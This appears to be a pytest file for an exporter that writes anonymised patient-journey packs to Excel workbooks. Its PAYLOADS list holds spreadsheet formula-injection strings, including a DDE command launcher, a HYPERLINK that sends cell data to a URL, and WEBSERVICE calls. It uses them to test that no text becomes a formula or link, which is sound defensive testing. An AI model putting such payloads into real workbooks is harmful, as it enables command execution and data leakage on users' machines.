import io
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import date, datetime
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from invented_packs import pack_of, small_pack
from lxml import etree

from journey_viewer.export.plain_text import plain
from journey_viewer.export.workbook import pack_workbook
from journey_viewer.privacy.anonymous_pack import AnonymousPack

MADE_ON = date(2026, 4, 1)
SHEETS = ["Read me", "Cases", "Chronologies", "In common", "Written for sharing", "Actions"]
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "{=1+1}",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "%0A=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    '=WEBSERVICE("http://example.org")',
    '=IMPORTXML("http://example.org","//a")',
    "=[other.xlsx]Sheet1!A1",
    "http://example.org",
    "mailto:somebody@example.org",
    "internal:Sheet2!A1",
    "external:c:\\other.xlsx",
    "</t></si><f>1+1</f>",
)


def _parts(content: bytes) -> dict[str, bytes]:
    with ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _rows(name: str, pack: AnonymousPack | None = None) -> list[tuple[Any, ...]]:
    book = openpyxl.load_workbook(io.BytesIO(pack_workbook(pack or small_pack(), MADE_ON)))
    return list(book[name].iter_rows(values_only=True))


def _column(name: str, heading: str) -> list[Any]:
    headings, *rows = _rows(name)
    return [row[headings.index(heading)] for row in rows]


def test_what_is_common_has_a_row_a_pattern_and_says_what_cannot_be_told() -> None:
    assert _column("In common", "Case A") == [1]
    assert _column("In common", "Case B") == ["cannot be told"]
    assert _column("In common", "What the network could do") == ["Ring on the day after"]
    assert (
        "In common"
        not in openpyxl.load_workbook(
            io.BytesIO(pack_workbook(replace(small_pack(), common=()), MADE_ON))
        ).sheetnames
    )


def test_what_was_changed_of_thresholds_stands_in_the_read_me() -> None:
    assert (
        "A&E soon after the GP: most days from the GP contact to A&E, 14 days (our default: 7 days)",
    ) in _rows("Read me")


def test_there_are_five_sheets_in_the_order_of_reading() -> None:
    assert openpyxl.load_workbook(io.BytesIO(pack_workbook(small_pack(), MADE_ON))).sheetnames == SHEETS


def test_the_first_sheet_begins_with_the_title_and_says_what_is_counted() -> None:
    texts = [row[0] for row in _rows("Read me")]
    assert texts[0] == "Deep dive in spring"
    assert {"What this is", "How it was anonymised", "What is counted", "The sheets"} <= set(texts)


def test_a_pack_without_a_title_still_says_what_it_is() -> None:
    assert _rows("Read me", replace(small_pack(), title=""))[0] == ("Journeys, anonymised",)


def test_counts_are_numbers_and_nought_is_not_the_same_as_not_supplied() -> None:
    assert _column("Cases", "GP practice") == [2, 1]
    assert _column("Cases", "Outpatients") == [0, "not supplied"]


def test_a_family_told_as_one_has_a_column_that_all_cases_can_be_compared_in() -> None:
    assert _column("Cases", "Urgent and emergency care") == [1, 1]
    assert _column("Cases", "A&E") == [1, "told together"]


def test_an_attended_contact_is_one_that_took_place() -> None:
    assert _column("Cases", "Touchpoints") == [4, 2]
    assert _column("Cases", "Attended contacts") == [3, 2]


def test_every_touchpoint_has_a_row_in_its_order() -> None:
    headings, *rows = _rows("Chronologies")
    assert [row[:5] for row in rows] == [
        ("Case A", 1, 1, 1, "GP practice"),
        ("Case A", 2, 2, 2, "A&E"),
        ("Case A", 2, 2, 3, "Hospital stay"),
        ("Case A", 22, 22, 4, "GP practice"),
        ("Case B", 1, 3, 1, "GP practice"),
        ("Case B", 4, 6, 2, "Urgent and emergency care"),
    ]
    assert len(headings) == 12


def test_reasons_have_a_column_only_where_any_was_shared() -> None:
    without = replace(small_pack(), cases=small_pack().cases[1:], common=())
    bare = tuple(replace(touchpoint, reason="") for touchpoint in without.cases[0].touchpoints)
    without = replace(without, cases=(replace(without.cases[0], touchpoints=bare),))
    assert "Reason" in _rows("Chronologies")[0]
    assert "Reason" not in _rows("Chronologies", without)[0]


def test_words_written_for_sharing_say_what_they_are_and_when() -> None:
    assert [row[1:3] for row in _rows("Written for sharing")[1:]] == [
        ("headline", None),
        ("about the person", None),
        ("note", "months 2 to 3"),
        ("note", "whole journey"),
        ("what could be different", None),
        ("what could be different", None),
    ]


def test_an_action_is_due_on_a_day_that_can_be_sorted() -> None:
    assert _column("Actions", "Due") == [datetime(2026, 5, 31), None]
    assert _column("Actions", "Status") == ["open", "done"]


def test_a_pack_of_nothing_still_opens() -> None:
    assert [row[:1] for row in _rows("Cases", AnonymousPack(()))] == [("Case",)]


@pytest.mark.parametrize("sheet", range(2, 6))
def test_headings_stay_in_sight_and_can_be_filtered_by_on_a4_across(sheet: int) -> None:
    parts = _parts(pack_workbook(small_pack(), MADE_ON))
    tree = etree.fromstring(parts[f"xl/worksheets/sheet{sheet}.xml"])
    assert tree.xpath("//*[local-name()='pane']/@ySplit") == ["1"]
    assert tree.xpath("//*[local-name()='autoFilter']/@ref")[0].startswith("A1:")
    (page,) = tree.xpath("//*[local-name()='pageSetup']")
    assert (page.get("paperSize"), page.get("orientation")) == ("9", "landscape")
    assert b"'!$1:$1</definedName>" in parts["xl/workbook.xml"] or sheet != 4


def test_every_property_is_ours() -> None:
    told = openpyxl.load_workbook(io.BytesIO(pack_workbook(small_pack(), MADE_ON))).properties
    assert (told.title, told.creator, told.lastModifiedBy) == (
        "Journeys, anonymised",
        "Journey Viewer",
        "Journey Viewer",
    )
    assert told.created == told.modified == datetime(2026, 4, 1)
    assert all([told.subject, told.keywords, told.description, told.category])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_or_a_link(payload: str) -> None:
    parts = _parts(pack_workbook(pack_of(payload), MADE_ON))
    sheets = b"".join(part for name, part in parts.items() if name.startswith("xl/worksheets/"))
    assert not re.search(rb"<f[ >]|<f/>|<hyperlink|dde", sheets, re.IGNORECASE)
    assert not [
        name for name in parts if "external" in name.lower() or name.startswith("xl/worksheets/_rels")
    ]
    shared = etree.fromstring(parts["xl/sharedStrings.xml"])
    texts = ["".join(item.itertext()) for item in shared]
    assert sheets.count(f't="s"><v>{texts.index(plain(payload))}</v>'.encode()) > 40


def test_every_cell_holds_a_number_or_a_shared_text() -> None:
    parts = _parts(pack_workbook(pack_of("=1+1"), MADE_ON))
    cells = [
        cell
        for name, part in parts.items()
        if name.startswith("xl/worksheets/")
        for cell in etree.fromstring(part).iter("{*}c")
    ]
    assert {cell.get("t", "n") for cell in cells} == {"s", "n"}
    assert {etree.QName(child).localname for cell in cells for child in cell} == {"v"}


@pytest.mark.parametrize("text", ["a\ud800b", "é → ≥ 😀", "a\x00b", "_x0041_", "x" * 40_000])
def test_odd_texts_stay_whole_as_far_as_a_cell_can_hold_them(text: str) -> None:
    pack = replace(small_pack(), actions=(replace(small_pack().actions[0], what=text),))
    told = _rows("Actions", pack)[1][1]
    assert told == {40_000: "x" * 32_766 + "…"}.get(len(text), plain(text))


def test_the_same_pack_gives_the_same_bytes() -> None:
    content = pack_workbook(small_pack(), MADE_ON)
    assert content == pack_workbook(small_pack(), MADE_ON)
    with ZipFile(io.BytesIO(content)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


@pytest.mark.parametrize("part", ["sharedStrings", *(f"worksheets/sheet{number}" for number in (2, 3, 4, 6))])
def test_a_small_workbook_is_written_as_it_was(part: str, golden: Callable[[str, str], None]) -> None:
    tree = etree.fromstring(_parts(pack_workbook(small_pack(), MADE_ON))[f"xl/{part}.xml"])
    etree.indent(tree)
    golden(f"workbook-{part.rsplit('/', maxsplit=1)[-1]}.xml", etree.tostring(tree, encoding="unicode"))
